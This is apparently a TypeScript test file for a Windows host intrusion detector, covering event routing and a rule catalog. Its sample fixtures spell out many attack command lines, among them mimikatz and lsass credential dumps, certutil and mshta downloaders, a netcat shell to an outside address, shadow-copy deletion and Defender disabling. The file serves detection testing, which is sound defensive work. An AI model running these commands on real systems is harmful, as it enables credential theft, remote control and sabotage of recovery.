/**
 * Routing of events to detectors by declared event codes (DetectorHub), and the
 * speed devices of the host detectors that must not change what they find:
 * the literal gate of the tool catalog, shared classification across options.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { SpoorEvent } from '../../../src/core/event.js';
import type { Detector, DetectorModule, Finding } from '../../../src/core/finding.js';
import { HomeNet } from '../../../src/core/homenet.js';
import { DetectorHub } from '../../../src/pipeline/detect.js';
import { hostDetectors, classify } from '../../../src/detectors/host/index.js';
import { CMD_LITERALS } from '../../../src/detectors/host/catalog.js';
import { EventBuilder } from './builder.js';

/** A module whose detector records the codes it was shown. */
function recorder(id: string, datasets: string[], codes?: string[]): { module: DetectorModule; seen: string[] } {
  const seen: string[] = [];
  const module: DetectorModule = {
    id,
    title: { en: id, zh: id },
    attack: [],
    defaults: {},
    create(): Detector {
      return { id, datasets, codes: codes ? new Set(codes) : undefined, observe: (e: SpoorEvent) => void seen.push(`${e['event.dataset']}:${String(e['event.code'] ?? '')}`), finish: (): Finding[] => [] };
    },
  };
  return { module, seen };
}

const ev = (dataset: string, code?: string): SpoorEvent => ({ '@timestamp': 0, 'event.dataset': dataset, 'event.code': code, ref: { evidence: 'E1' } });

test('hub: a detector with codes sees only events of those codes; one without sees all of its datasets', () => {
  const coded = recorder('coded', ['evtx'], ['4625', '1']);
  const none = recorder('none', ['evtx'], []);
  const all = recorder('all', ['evtx', 'conn']);
  const hub = new DetectorHub([coded.module, none.module, all.module], { homeNet: new HomeNet(), settings: {} });
  hub.observe([ev('evtx', '4625'), ev('evtx', '4624'), ev('conn'), ev('evtx', '1'), ev('evtx'), ev('evtx', '4625'), ev('dns')]);
  assert.deepEqual(coded.seen, ['evtx:4625', 'evtx:1', 'evtx:4625']);
  assert.deepEqual(none.seen, []);
  assert.deepEqual(all.seen, ['evtx:4625', 'evtx:4624', 'conn:', 'evtx:1', 'evtx:', 'evtx:4625']);
});

test('hub: a detector that throws is disabled and the others keep their routes', () => {
  const ok = recorder('ok', ['evtx'], ['7045']);
  const bad: DetectorModule = {
    id: 'bad',
    title: { en: 'bad', zh: 'bad' },
    attack: [],
    defaults: {},
    create: () => ({ id: 'bad', datasets: ['evtx'], codes: new Set(['7045']), observe: () => { throw new Error('boom'); }, finish: () => [] }),
  };
  const hub = new DetectorHub([bad, ok.module], { homeNet: new HomeNet(), settings: {} });
  hub.observe([ev('evtx', '7045'), ev('evtx', '7045')]);
  assert.equal(ok.seen.length, 2);
  assert.equal(hub.failures.length, 1);
  assert.equal(hub.failures[0].detector, 'bad');
});

test('host detectors: findings through the hub equal findings with every event passed to every detector', () => {
  const b = new EventBuilder();
  const events: SpoorEvent[] = [];
  const t0 = Date.parse('2024-03-02T03:00:00Z');
  for (let i = 0; i < 30; i++) events.push(b.fail(t0 + i * 2000, 'Administrator', '203.0.113.9'));
  events.push(b.logon(t0 + 70_000, 'Administrator', '203.0.113.9', '0x3e1f0', '10'));
  events.push(b.ev('4688', t0 + 90_000, { NewProcessName: 'C:\\Users\\Administrator\\Desktop\\masscan.exe', CommandLine: 'masscan.exe -p445 10.0.0.0/8 --rate 10000', SubjectUserName: 'Administrator', SubjectLogonId: '0x3e1f0', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe' }));
  events.push(b.ev('4724', t0 + 100_000, { TargetUserName: 'Administrator', SubjectUserName: 'Administrator', SubjectLogonId: '0x3e1f0' }));
  events.push(b.ev('7045', t0 + 110_000, { ServiceName: 'xKjQp', ImagePath: '%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }, { channel: 'System' }));
  events.push(b.ev('1', t0 + 120_000, { Image: 'C:\\ProgramData\\xmrig.exe', CommandLine: 'xmrig.exe -o stratum+tcp://pool.example:3333 --donate-level 1', User: 'WIN-SRV01\\Administrator', LogonId: '0x3e1f0', ParentImage: 'C:\\Windows\\System32\\cmd.exe' }, { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon' }));
  const key = (fs: Finding[]) => fs.map((f) => `${f.detector}|${f.attack.join(',')}|${f.severity}|${f.evidence.map((r) => r.record).join(',')}`).sort();
  const hub = new DetectorHub(hostDetectors, { homeNet: new HomeNet(), settings: {} });
  hub.observe(events);
  const routed = hub.finish();
  const ctx = { homeNet: new HomeNet(), settings: {} };
  const ds = hostDetectors.map((m) => m.create(ctx));
  for (const e of events) for (const d of ds) d.observe(e);
  const direct = ds.flatMap((d) => d.finish());
  assert.ok(routed.length >= 5, `expected several findings, got ${routed.length}`);
  assert.deepEqual(key(routed), key(direct));
  for (const d of ['host.bruteforce', 'host.bruteforce-success', 'host.execution', 'host.persistence', 'host.account-manipulation']) assert.ok(routed.some((f) => f.detector === d), d);
});

test('host detectors declare routes: finish-only detectors take no events, the state feeder takes logons', () => {
  const ctx = { homeNet: new HomeNet(), settings: {} };
  const ds = hostDetectors.map((m) => m.create(ctx));
  for (const d of ds) assert.ok(d.codes, `${d.id} declares codes`);
  const feeder = ds[0];
  for (const c of ['4624', '4625', '4634', '4648', '4720', '1149']) assert.ok(feeder.codes!.has(c), `feeder takes ${c}`);
  assert.equal(ds.find((d) => d.id === 'host.spray')!.codes!.size, 0);
});

/** Command lines each gated catalog rule must still find (at least one per rule with literals). */
const SAMPLES: Record<string, string[]> = {
  mimikatz: ['mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'powershell IEX (New-Object Net.WebClient).DownloadString(\'x\'); Invoke-Mimikatz -DumpCreds'],
  'lsass-dump': ['procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp', 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full'],
  'sam-dump': ['reg save HKLM\\SAM C:\\temp\\sam.save'],
  'ntds-dump': ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', 'vssadmin create shadow /for=C:'],
  'kerberos-tools': ['Rubeus.exe kerberoast /outfile:h.txt'],
  scanner: ['masscan -p 445 10.0.0.0/8 --rate 10000', 'nmap -p 1-1000 192.168.1.0/24'],
  miner: ['xmr.exe -o stratum+tcp://x.example:3333 -u wallet', 'svc.exe --donate-level 1 -o 1.2.3.4:80'],
  downloader: ['certutil.exe -urlcache -split -f http://1.2.3.4/a.exe a.exe', 'bitsadmin /transfer j http://x/a.exe c:\\a.exe', 'powershell iwr https://x/a'],
  'lolbin-exec': ['mshta.exe javascript:a=GetObject("script:https://x/a.sct").Exec();close()', 'regsvr32 /s /n /u /i:https://x/a.sct scrobj.dll'],
  'encoded-powershell': ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA='],
  'offensive-powershell': ['powershell Invoke-Shellcode -Payload x', 'powershell import-module powerview.ps1'],
  psexec: ['psexec.exe \\\\10.0.0.5 -u admin cmd'],
  'wmi-exec': ['wmic /node:10.0.0.5 process call create "cmd /c whoami"'],
  impacket: ['cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.12 2>&1'],
  'net-use-admin-share': ['net use \\\\10.0.0.5\\C$ /user:admin pass'],
  'rdp-hijack': ['tscon 2 /dest:rdp-tcp#0'],
  winrs: ['winrs -r:10.0.0.5 cmd'],
  'sc-create': ['sc create evil binPath= "c:\\temp\\e.exe"'],
  'sc-remote': ['sc \\\\10.0.0.5 create evil binpath= c:\\e.exe'],
  'schtasks-create': ['schtasks /create /tn x /tr c:\\e.exe /sc onlogon'],
  'bits-persist': ['bitsadmin /SetNotifyCmdLine job c:\\e.exe NULL'],
  'netsh-helper': ['netsh add helper c:\\temp\\h.dll'],
  'dns-plugin': ['dnscmd dc1 /config /serverlevelplugindll \\\\x\\a.dll'],
  'setspn-add': ['setspn -a http/x corp\\svc'],
  'shim-install': ['sdbinst.exe c:\\temp\\x.sdb'],
  tunnel: ['plink.exe -R 3389:127.0.0.1:3389 a@1.2.3.4', 'nc.exe 1.2.3.4 4444 -e cmd.exe'],
  privesc: ['cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef'],
  'clear-logs': ['wevtutil cl Security', 'powershell Clear-EventLog -LogName Security'],
  'inhibit-recovery': ['vssadmin delete shadows /all /quiet', 'bcdedit /set {default} recoveryenabled no', 'wmic shadowcopy delete'],
  'disable-security': ['powershell Set-MpPreference -DisableRealtimeMonitoring $true', 'netsh advfirewall set allprofiles state off', 'sc stop WinDefend'],
  'audit-tamper': ['auditpol /clear /y'],
  'net-user-add': ['net user hacker P@ss1 /add'],
  'net-group-add': ['net localgroup administrators hacker /add'],
  recon: ['whoami /all', 'C:\\Windows\\System32\\ipconfig.exe /all', 'nltest /dclist:corp'],
};

test('catalog: every gated rule still matches its sample command lines (literal gate is sound)', () => {
  for (const [rule, lits] of Object.entries(CMD_LITERALS)) {
    const samples = SAMPLES[rule];
    assert.ok(samples?.length, `samples for ${rule}`);
    for (const cmd of samples) {
      const lower = cmd.toLowerCase();
      assert.ok(lits.some((l) => lower.includes(l)), `${rule}: a literal occurs in ${cmd}`);
      const hits = classify('', cmd, { recon: true, path: false });
      assert.ok(hits.some((h) => h.rule === rule), `${rule} found in ${cmd}: got ${hits.map((h) => h.rule).join(',')}`);
    }
  }
  assert.deepEqual(classify('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\notes.txt', { recon: true, path: true }), []);
});

test('catalog: options only filter one classification, and callers get their own copies', () => {
  const img = 'C:\\Users\\bob\\Downloads\\svhost.exe';
  const cmd = 'whoami /all';
  const full = classify(img, cmd, { recon: true, path: true }).map((h) => h.rule);
  assert.ok(full.includes('masquerade-lookalike'), full.join(','));
  assert.ok(full.includes('recon'), full.join(','));
  assert.deepEqual(classify(img, cmd, { recon: false, path: true }).map((h) => h.rule), full.filter((r) => r !== 'recon'));
  assert.deepEqual(classify(img, cmd, { recon: true, path: false }).map((h) => h.rule), full.filter((r) => r !== 'masquerade-lookalike' && r !== 'user-folder'));
  const a = classify(img, cmd);
  a[0].severity = 'info';
  a.push(a[0]);
  assert.notEqual(classify(img, cmd)[0].severity, 'info');
  assert.equal(classify(img, cmd).length, full.length);
});
